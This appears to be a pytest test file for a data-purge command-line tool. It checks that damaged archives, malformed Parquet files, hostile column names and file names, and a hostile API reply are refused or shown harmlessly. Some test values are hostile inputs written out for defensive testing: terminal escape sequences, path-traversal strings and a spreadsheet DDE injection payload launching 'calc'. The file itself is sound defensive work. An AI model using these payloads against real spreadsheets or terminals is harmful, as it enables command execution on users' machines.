    Refused("gzip-without-its-last-byte", "a.csv.gz", GZIPPED[:-1], "damaged or cut short"),
    Refused("gzip-flipped", "a.csv.gz", GZIPPED[:60_000] + b"\xff" * 9 + GZIPPED[60_009:], "damaged or cut short"),
    Refused("gzip-wrong-checksum", "a.csv.gz", GZIPPED[:-8] + bytes(4) + GZIPPED[-4:], "damaged or cut short"),
    Refused("gzip-with-rubbish-behind", "a.csv.gz", GZIPPED + b"rubbish", "damaged or cut short"),
    Refused("zstd-cut", "a.csv.zst", ZSTD[: len(ZSTD) // 2], "damaged or cut short"),
    Refused("zstd-flipped", "a.csv.zst", ZSTD[:9_000] + b"\xff" * 9 + ZSTD[9_009:], "damaged or cut short"),
    Refused("parquet-magic-alone", "a.parquet", b"PAR1", "damaged or unfinished"),
    Refused("parquet-cut", "a.parquet", PLAIN_PARQUET[: len(PLAIN_PARQUET) // 2], "damaged or unfinished"),
    Refused("parquet-without-footer", "a.parquet", PLAIN_PARQUET[:-8], "damaged or unfinished"),
    Refused(
        "parquet-absurd-footer", "a.parquet", PLAIN_PARQUET[:-8] + b"\xff\xff\xff\x7fPAR1", "damaged or unfinished"
    ),
    Refused(
        "parquet-footer-of-noughts", "a.parquet", b"PAR1" + bytes(100) + b"\x64\0\0\0PAR1", "damaged or unfinished"
    ),
    Refused(
        "parquet-pages-of-noughts", "a.parquet", PLAIN_PARQUET[:4] + bytes(3_000) + PLAIN_PARQUET[3_004:], "damaged"
    ),
    Refused("parquet-without-columns", "a.parquet", parquet(pa.table({})), "no column for"),
    Refused("parquet-escape-in-a-name", "a.parquet", renamed("user", "contact", "\x1b[2J"), "control characters"),
    Refused("parquet-nul-in-a-name", "a.parquet", renamed("user", "contact", "a\0b"), "control characters"),
    Refused("parquet-escape-in-every-name", "a.parquet", renamed("\x1b]0;x\a", "\x9b31m"), "control characters"),
    Refused("parquet-same-names", "a.parquet", renamed("user", "contact", "contact"), "columns of the same name"),
    Refused(
        "parquet-same-names-but-a-mark",
        "a.parquet",
        renamed("user", "contact", "\ufeffcontact"),
        "columns of the same name",
    ),
    Refused("parquet-long-name", "a.parquet", renamed("user", "contact", "x" * 300), "usable header"),
    *(
        Refused(
            f"parquet-contact-{name}",
            "a.parquet",
            parquet({"user": [USER], "contact": column}),
            "and the contact is text",
        )
        for name, column in {
            "integer": pa.array([7]),
            "float": pa.array([1.5]),
            "boolean": pa.array([True]),
            "list": pa.array([["A"]]),
            "struct": pa.array([{"a": "A"}]),
            "struct-with-an-escape": pa.array([{"\x1b[2J": "A"}]),
            "map": pa.array([[("k", "v")]], pa.map_(pa.string(), pa.string())),
            "date": pa.array([1], pa.date32()),
            "timestamp": pa.array([1], pa.timestamp("us", "UTC")),
            "decimal": pa.array([7], pa.decimal128(5, 2)),
            "dictionary-of-numbers": pa.array([5]).dictionary_encode(),
        }.items()
    ),
]


def test_a_table_that_has_fewer_rows_than_it_says_is_refused(tmp_path: Path) -> None:
    """A Parquet file with fewer rows than it declares is refused after the rows that it has."""
    footer = bytes(PLAIN_PARQUET).replace(b"\x16\xe8\x07", b"\x16\xea\x07", 1)  # 500 as Thrift writes it, and 501
    source = open_source([a_file(tmp_path, footer, "a.parquet")])
    batches = source.batches()
    with pytest.raises(InputError, match="says that it has 501 rows, and has 500"):
        for _ in batches:
            pass


@by_name(REFUSED)
@pytest.mark.parametrize("command", ["plan", "run"])
def test_a_file_that_cannot_be_used_is_refused_with_a_sentence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, case: Refused, command: str
) -> None:
    """An unusable file ends plan and run with exit code 2, its name and the fault.

    The output controls no terminal, and no ledger is made.
    """
    monkeypatch.setenv("PURGEENGINE_ACCESS_TOKEN", a_token())
    path = a_file(tmp_path, case.content, case.file)
    more = [] if command == "plan" else ["--ledger", str(tmp_path / "L"), "--yes", "--log-format", "json"]
    assert run([command, str(path), *more]) == 2
    said = capsys.readouterr()
    sentence = said.err.splitlines()[-1]
    assert sentence.startswith("purgeengine: ")
    assert re.search(case.said, sentence), sentence
    assert str(path) in sentence
    assert is_quiet(said.out + said.err)
    assert not (tmp_path / "L" / "ledger.sqlite").exists()


def a_token() -> str:
    """Return a token that belongs to nobody and needs no login."""
    said = {"tid": "11111111-2222-4333-8444-555555555555", "exp": 4_000_000_000}
    return jwt.encode(said, bytes(32), algorithm="HS256")


def test_every_cut_of_a_small_file_is_read_or_refused(tmp_path: Path) -> None:
    """A Parquet, gzip or zstd file cut at any length gives its rows or a sentence, and never wrong rows."""
    small = parquet({"user": [USER], "contact": ["A"]})
    for whole, name in (
        (small, "a.parquet"),
        (gzip.compress(NARROW + LINE), "a.csv.gz"),
        (zstd(NARROW + LINE), "a.csv.zst"),
    ):
        for length in range(len(whole)):
            path = a_file(tmp_path, whole[:length], name)
            try:
                found = records(open_source([path]))
            except InputError as error:
                assert is_quiet(str(error))
            else:
                assert name != "a.parquet"
                assert not [row for row in found if not row["reason"] and row["contact"] != CONTACT]


# --------------------------------------------------------------------------------------------------------------------- Parquet


class Table(NamedTuple):
    """Columns of a Parquet file: the reason for each row, and the text of its extra column."""

    name: str
    columns: dict[str, Any]
    reasons: list[str | None]
    other: list[str | None]


def raw_strings(*texts: bytes) -> pa.Array:
    """Return strings with unchecked bytes."""
    return pa.StringArray.from_buffers(len(texts), *pa.array(texts, pa.binary()).buffers()[1:])


def beside(name: str, column: Any, *other: str | None) -> Table:
    """Return a table of two good rows with one extra column."""
    return Table(f"other-{name}", {"user": [USER] * 2, "contact": ["A", "B"], "x": column}, [VALID] * 2, list(other))


TABLES = [
    Table("null-ids", {"user": [USER, None, USER], "contact": [None, "A", "B"]}, [NO_CONTACT, NO_USER, VALID], []),
    Table("all-null", {"user": pa.nulls(2), "contact": pa.nulls(2)}, [NO_USER] * 2, []),
    Table("no-rows", {"user": pa.array([], pa.string()), "contact": pa.array([], pa.string())}, [], []),
    Table("bytes", {"user": [USER.encode()] * 3, "contact": [b"A", b"\xff", b"\0"]}, [VALID, NOT_TEXT, HAS_NUL], []),
    Table(
        "unchecked-strings",
        {"user": [USER] * 3, "contact": raw_strings(b"A", b"\xc3", b"B")},
        [VALID, NOT_TEXT, VALID],
        [],
    ),
    Table(
        "unchecked-surrogate",
        {"user": [USER] * 2, "contact": raw_strings(b"A", b"\xed\xa0\x80")},
        [VALID, NOT_TEXT],
        [],
    ),
    Table("nul", {"user": [USER] * 2, "contact": ["A\0", "B"]}, [HAS_NUL, VALID], []),
    Table(
        "paths",
        {"user": [USER] * 4, "contact": ["..", "//host", "A?b", "A"]},
        [BAD_CONTACT, EWS.format("contact"), BAD_CONTACT, VALID],
        [],
    ),
    Table(
        "line-ends",
        {"user": [USER] * 3, "contact": ["A\r\nB", "A\n", "B"]},
        ["the contact id holds a space or a line break", VALID, VALID],
        [],
    ),
    Table(
        "long-cells",
        {"user": [USER] * 3, "contact": ["A" * 40_000, "A" * 513, "A"]},
        [CELL_TOO_LONG, LONG_CONTACT, VALID],
        [],
    ),
    Table(
        "dictionary",
        {"user": pa.array([USER, "..", USER]).dictionary_encode(), "contact": ["A", "B", "C"]},
        [VALID, "the user ends with '.'", VALID],
        [],
    ),
    Table(
        "folder-nulls",
        {"user": [USER] * 2, "folder": pa.array([None, ".."]), "contact": ["A", "B"]},
        [VALID, BAD_FOLDER],
        [],
    ),
    Table(
        "cell-too-long-elsewhere",
        {"user": [USER] * 2, "contact": ["A", "B"], "x": ["n" * 40_000, "n"]},
        [VALID, VALID],
        ["n" * 1_000 + "…", "n"],
    ),
    beside("nested", pa.array([{"a": [1, None]}, None]), '{"a": [1, null]}', None),
    beside("map", pa.array([[("k", 1)], []], pa.map_(pa.string(), pa.int64())), '[["k", 1]]', "[]"),
    beside("bytes-no-text", pa.array([b"\xff\xfe", b"ok"]), "//4=", "ok"),
    beside("dictionary-of-bytes", pa.array([b"\xff", b"a"]).dictionary_encode(), "/w==", "a"),
    beside(
        "year-10000",
        pa.array([2**62, 0], pa.timestamp("us")),
        "<value out of range: 4611686018427387904>",
        "1970-01-01 00:00:00.000000",
    ),
    beside(
        "list-of-year-10000",
        pa.array([[2**62], []], pa.list_(pa.timestamp("us"))),
        "[ [ <value out of range: 4611686018427387904> ] ]",
        "[]",
    ),
    beside(
        "list-of-absurd-dates",
        pa.array([[2**30], None], pa.list_(pa.date32())),
        "[ [ <value out of range: 1073741824> ] ]",
        None,
    ),
    beside("unknown-zone", pa.array([0, None], pa.timestamp("us", "Foo/Bar")), "[ 1970-01-01 00:00:00.000000Z ]", None),
    beside("duration", pa.array([2**62, None], pa.duration("s")), "4611686018427387904", None),
    beside("nan", pa.array([float("nan"), float("-inf")]), "nan", "-inf"),
    beside("formulas", pa.array(["=1+1", "'=1"]), "=1+1", "'=1"),
    beside(
        "same-name-twice-inside",
        pa.StructArray.from_arrays([pa.array([1, 2])] * 2, ["a", "a"]),
        *(f"-- is_valid: all not null -- child 0 type: int64 [ {n} ] -- child 1 type: int64 [ {n} ]" for n in (1, 2)),
    ),
    beside(
        "half-a-pair-in-json",
        pa.array([["\ud83d".encode("utf-8", "surrogatepass")], None]),
        "[\"b'\\\\xed\\\\xa0\\\\xbd'\"]",
        None,
    ),
]


@by_name(TABLES)
def test_a_hostile_table_is_judged_row_by_row(tmp_path: Path, case: Table) -> None:
    """Every row of a hostile table has its reason and number, and odd values in extra columns make no row invalid."""
    pq.write_table(pa.table(case.columns), tmp_path / "a.parquet")
    if case.reasons and all(case.reasons):  # a list without a valid row is not staged
        assert [row["reason"] for row in records(open_source([tmp_path / "a.parquet"]))] == case.reasons
        with pytest.raises(InputError, match=f"No row of the list can be sent .*{re.escape(str(case.reasons[0]))}"):
            the_whole_way(tmp_path, [tmp_path / "a.parquet"])
        return
    found = the_whole_way(tmp_path, [tmp_path / "a.parquet"])
    expected = [f"line {n} of a.parquet: {reason}" if reason else "" for n, reason in enumerate(case.reasons, start=1)]
    assert [row["message"] for row in found] == expected
    if case.other:
        assert [row["x"] for row in records(open_source([tmp_path / "a.parquet"]))] == case.other


def test_line_ends_and_marks_in_names_of_a_table_are_smoothed(tmp_path: Path) -> None:
    """Line ends and byte order marks in column names are removed, so that a CSV export has one header line."""
    table = pa.Table.from_arrays(
        [pa.array([USER]), pa.array(["A"]), pa.array(["n"])], ["\ufeffuser", " contact\n", "my\r\n note"]
    )
    pq.write_table(table, tmp_path / "a.parquet")
    assert open_source([tmp_path / "a.parquet"]).extra_columns == ("my note",)
    assert [row["my note"] for row in the_whole_way(tmp_path, [tmp_path / "a.parquet"])] == ["n"]


# ---------------------------------------------------------------------------------------------------------------- files and folders


def strangers(folder: Path) -> None:
    """Make a folder as people leave it."""
    for name, content in {
        "b.csv": NARROW + f"{USER},B\n".encode(),
        "A.CSV": NARROW + f"{USER},A\n".encode(),
        "c.csv.gz": gzip.compress(NARROW + f"{USER},C\n".encode()),
        "notes.docx": b"PK\x03\x04",
        "Thumbs.db": b"\xd0\xcf\x11\xe0",
        ".DS_Store": b"\0",
        "._b.csv": b"\0\x05\x16\x07",
        ".hidden.csv": b"\x1b[2J",
        "b.csv~": b"x",
        "b.csv.bak": b"x",
        "desktop.ini": b"x",
        "LICENSE": b"x",
    }.items():
        (folder / name).write_bytes(content)
    (folder / "nested.csv").mkdir()
    (folder / "nested.csv" / "d.csv").write_bytes(NARROW + f"{USER},D\n".encode())


def test_a_folder_with_strangers_in_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A folder with foreign files is read in order, and hidden files, other files and subfolders are ignored."""
    folder = tmp_path / "in"
    folder.mkdir()
    strangers(folder)
    assert [row["contact"] for row in the_whole_way(tmp_path, [folder])] == ["A", "B", "C"]
    assert run(["plan", str(folder)]) == 0
    assert is_quiet(capsys.readouterr().out)


def test_files_of_different_encodings_in_one_folder(tmp_path: Path) -> None:
    """Each file of a folder is read in its own encoding; in another encoding, bad cells of extra columns are replaced."""
    folder = tmp_path / "in"
    folder.mkdir()
    text = "user,contact,note\nann@x,%s,caf\u00e9\n"
    for name, encoding in {"a": "utf-8", "b": "utf-8-sig", "c": "utf-16", "d": "latin-1"}.items():
        (folder / f"{name}.csv").write_bytes((text % name.upper()).encode(encoding))
    (folder / "e.csv.gz").write_bytes(gzip.compress((text % "E").encode("utf-16")))
    (folder / "f.parquet").write_bytes(parquet({"user": ["ann@x"], "contact": ["F"], "note": ["caf\u00e9"]}))
    found = the_whole_way(tmp_path, [folder])
    notes = {row["contact"]: row["note"] for row in found if not row["outcome"]}
    assert notes == {**dict.fromkeys("ABCEF", "caf\u00e9"), "D": "caf\ufffd"}


def test_other_columns_of_many_files_are_too_many_together(tmp_path: Path) -> None:
    """The extra columns of all files together are limited to a thousand, because an export has them all and is itself an input."""
    first, second = a_file(tmp_path, wide_header(600, "a"), "a.csv"), a_file(tmp_path, wide_header(401, "b"), "b.csv")
    with pytest.raises(InputError, match="together 1,001 columns besides those of a ledger"):
        open_source([first, second])
    assert len(open_source([first, a_file(tmp_path, wide_header(400, "c"), "c.csv")]).extra_columns) == 1_000


@pytest.mark.parametrize("ending", [".csv", ".csv.gz", ".parquet"])
def test_an_export_of_an_export_is_an_input_as_often_as_one_likes(tmp_path: Path, ending: str) -> None:
    """An export of the widest input can be exported again and again in each format, and nothing changes."""
    names = [f"{'=' * (n % 2)}c{n}" for n in range(1_000)]
    path = a_file(
        tmp_path, parquet({"user": [USER], "contact": ["=A"], **{name: [f"'{name}"] for name in names}}), "a.parquet"
    )
    for generation in range(3):
        source = open_source([path])
        assert source.extra_columns[-1_000:] == tuple(names)
        assert [[row[name] for name in ("contact", *names)] for row in records(source)] == [
            ["=A", *(f"'{n}" for n in names)]
        ]
        with open_ledger(tmp_path / f"L{generation}", source):  # type: ignore[arg-type]
            path = tmp_path / f"out{generation}{ending}"
            assert run(["export", str(tmp_path / f"L{generation}"), str(path)]) == 0


def test_rows_of_a_table_that_no_line_could_hold(tmp_path: Path) -> None:
    """A cell of many lines and a row of many bytes come back from an export; in a row beyond the limit, extra cells are cut."""
    fits = {f"c{n:02d}": ['"' * 32_000] for n in range(8)}
    tables = [
        {"user": [USER], "contact": ["A"], "c00": ["line\n" * 6_000]},
        {"user": [USER], "contact": ["B"], **fits},
        {"user": [USER], "contact": ["C"], **fits, "c08": ["x" * 32_000]},
    ]
    paths = [a_file(tmp_path, parquet(table), f"{n}.parquet") for n, table in enumerate(tables)]
    found = the_whole_way(tmp_path, paths)
    assert [row["message"] for row in found] == ["", "", ""]
    again = records(open_source([tmp_path / "out.csv"]))
    assert [(row["contact"], row["reason"]) for row in again] == [("A", None), ("B", None), ("C", None)]
    assert (again[0]["c00"], again[1]["c07"]) == ("line\n" * 6_000, '"' * 32_000)
    assert again[2]["c00"] == '"' * 1_000 + "…"


def test_one_bad_file_of_a_folder_refuses_the_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One bad file refuses its folder, and the sentence names the file."""
    strangers(tmp_path)
    (tmp_path / "z.csv").write_bytes(b"")
    assert run(["plan", str(tmp_path)]) == 2
    assert f"{tmp_path / 'z.csv'} is empty" in capsys.readouterr().err


@pytest.mark.parametrize(
    "name",
    ["missing.csv", "..", "x" * 5_000, "~nobody-of-that-name/x.csv"],
    ids=lambda n: ascii(n)[:20],
)
def test_a_name_that_is_no_file_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    """A file name that is missing, impossible, too long or of an unknown user ends with exit code 2 and a sentence."""
    (tmp_path / "empty").mkdir()
    path = name if name.startswith("~") else str(tmp_path / "empty" / name)
    assert run(["plan", path]) == 2
    assert is_quiet(capsys.readouterr().err)


def test_a_nul_in_a_name_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A NUL in a file name is refused with a sentence in every place that takes a name, because a program can pass one."""
    path = a_file(tmp_path, NARROW + LINE)
    name = tmp_path / "a\0b.csv"
    with pytest.raises(InputError, match="cannot be used as a file name"):
        open_source([name])
    for open_it in (LedgerReader.open, lambda folder: open_ledger(folder, open_source([path]))):  # type: ignore[arg-type]
        with pytest.raises(LedgerError, match="holds a NUL character"):
            open_it(name)
    open_ledger(tmp_path / "L", open_source([path])).close()  # type: ignore[arg-type]
    with LedgerReader.open(tmp_path / "L") as reader, pytest.raises(UsageProblem, match="holds a NUL character"):
        export(reader, name)
    assert run(["plan", str(path), "--columns", "user=a\0b"]) == 2
    assert is_quiet(capsys.readouterr().err)


@pytest.mark.skipif(os.name == "nt", reason="Windows allows no such file names")
@pytest.mark.parametrize("name", ["a\x1b[2Jb.csv", "a\nb.csv", "\u202ecsv.b", "a\udcff.csv"], ids=ascii)
def test_a_file_with_a_hostile_name_steers_no_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    """A file name with control characters is shown escaped by ``plan``."""
    path = tmp_path / name
    path.write_bytes(NARROW + b"nobody,A\n" + LINE)
    assert run(["plan", str(path)]) == 0
    said = capsys.readouterr()
    assert "line 2 of " in said.out
    assert is_quiet(said.out)
    said.out.encode("utf-8")


# ----------------------------------------------------------------------------------------------------------- what Graph says

HOSTILE_TEXTS = [
    "\x1b[2J\x1b]0;x\a",
    "=cmd|' /C calc'!A0",
    "\u202eevil",
    "a\r\nb: c",
    "\x9b31m",
    "\ud83d",
    "x" * 10_000,
    "\0",
    "@x",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=lambda text: ascii(text)[:20])
@pytest.mark.parametrize("log_format", ["console", "json"])
def test_a_hostile_answer_is_shown_and_does_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, log_format: Any
) -> None:
    """A hostile code and message of a refusal reach ledger, log, status and export as harmless text."""
    body = json.dumps(
        {"responses": [{"id": "0", "status": 403, "body": {"error": {"code": text, "message": text}}}]}
    ).encode()
    answer = decode_answer(200, {"request-id": text}, body, 1, 0.0)
    assert answer.replies is not None
    reply = answer.replies[0]
    assert reply is not None
    entries = [ended(1)._replace(request_id=answer.request_id), settled(0, 1, Outcome.REFUSED, reply=reply)]
    source = open_source([a_file(tmp_path, NARROW + LINE)])
    with open_ledger(tmp_path / "L", source) as ledger:  # type: ignore[arg-type]
        ledger.write([sent(1, (0, [0]))], NOW)
        ledger.write(entries, NOW)
        stream = io.StringIO()
        logs.configure_logs(log_format, verbose=True, stream=stream)
        log_trace.trace(logs.get_logger(), entries, ledger.user_of)
    assert is_quiet(stream.getvalue())
    for arguments in (["status", str(tmp_path / "L")], ["status", str(tmp_path / "L"), "--json"]):
        assert run(arguments) == 0
        assert is_quiet(capsys.readouterr().out)
    assert run(["export", str(tmp_path / "L"), str(tmp_path / "out.csv")]) == 0
    (row,) = check_export(tmp_path / "out.csv", records(source))
    assert (row["code"] + row["message"] + row["request_id"]).isprintable()


def test_there_are_enough_cases() -> None:
    """The tables have at least 150 hostile rows and 300 cases in all."""
    assert len(ROWS) >= 150
    assert len(ROWS) + len(ACCEPTED) + len(REFUSED) + len(TABLES) >= 300
